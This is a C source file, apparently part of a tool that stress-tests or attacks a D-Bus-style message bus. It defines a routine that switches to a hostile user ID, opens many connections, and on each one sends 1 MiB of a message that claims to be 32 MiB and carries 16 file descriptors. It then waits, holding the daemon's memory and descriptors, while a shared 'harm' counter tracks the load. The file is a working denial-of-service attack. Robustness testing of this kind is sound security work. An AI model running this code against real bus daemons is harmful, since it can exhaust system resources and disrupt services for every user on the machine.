/* SPDX-License-Identifier: MIT */
#include "attack.h"

#include <stdlib.h>
#include <unistd.h>

#define CLAIMED (32u << 20)
#define SENT (1u << 20)

/* --count connections begin messages of 32 MiB, send a part of each with 16 descriptors, and wait. */
void half_messages(void *argument)
{
    struct buffer out = {0};
    (void)argument;
    hostile_set_uid();
    put_message(&out,
                &(struct header){.type = SIGNAL,
                                 .path = ATTACK_PATH,
                                 .interface = ATTACK_INTERFACE,
                                 .member = "Signal",
                                 .signature = "ay",
                                 .unix_fds = 16},
                NULL);
    write_u32(out.data + 4, CLAIMED);
    buffer_u32(&out, CLAIMED - 4);
    buffer_need(&out, SENT);
    memset(out.data + out.size, 'x', SENT);
    out.size += SENT;
    for (int i = 0; i < attack_options.count; i++) {
        struct connection *c = calloc(1, sizeof(*c));
        if (!c)
            die("out of memory");
        attack_join(c);
        attack_pour_fds(c, &out, 16);
        atomic_fetch_add(&shared->harm, out.size);
    }
    process_ready();
    pause();
}
